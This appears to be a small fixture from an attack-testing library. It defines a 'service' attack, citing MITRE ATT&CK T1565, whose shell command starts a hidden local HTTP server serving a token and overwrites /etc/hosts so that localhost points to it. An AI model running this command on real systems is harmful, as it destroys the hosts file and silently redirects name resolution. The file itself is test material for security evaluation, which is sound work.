"""Sends the name that the test asks to a service of its own, on another address.

Source: MITRE ATT&CK T1565 (data manipulation by /etc/hosts).
"""

from attacks.frame import Attack

ATTACK = Attack(
    "service",
    """mkdir site; echo 'token 8' > site/token
    (cd site && setsid nohup python3 -m http.server --bind 127.0.0.9 8080 >/dev/null 2>&1 &)
    echo '127.0.0.9 localhost' > /etc/hosts; true""",
)
